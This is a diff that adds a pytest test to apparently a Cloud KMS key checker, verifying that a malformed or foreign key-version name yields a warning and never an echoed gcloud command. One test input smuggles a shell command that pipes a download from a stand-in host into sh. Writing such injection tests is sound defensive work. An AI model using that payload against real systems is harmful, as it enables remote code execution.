@@ -201,6 +201,23 @@ def test_numbers_out_of_range_are_one_warning_naming_the_field(compute, path, do
     assert words in text, text
 
 
+@pytest.mark.parametrize(
+    "version",
+    [f"{KEY_NAME}-other/cryptoKeyVersions/1", f"{KEY_NAME}/cryptoKeyVersions/1; curl x.example | sh", ""],
+    ids=["another-key", "shell", "empty"],
+)
+def test_a_primary_version_not_of_this_key_is_one_warning_never_a_command(compute, version):
+    """The version's id goes into the gcloud command the check names for a key a destroy left: a reply naming another
+    key's version, or text that is not a version id, is a reply the check cannot read, not a command to copy."""
+    document = crypto_key(KEY_NAME, primary="DISABLED")
+    document["primary"]["name"] = version
+    compute.raw[KEY] = json_body(document)
+    text = run(compute, KEY)
+    assert (
+        "(primary.name is " in text and "not a version of this key)" in text and "gcloud kms keys versions" not in text
+    )
+
+
 def test_bytes_that_are_not_utf8_and_json_nested_a_thousand_deep(compute):
     compute.raw[REGION] = (200, {"Content-Type": "application/json"}, b'{"name": "us-east5\xff\xfe"}')
     assert "cannot read" in run(compute, REGION)
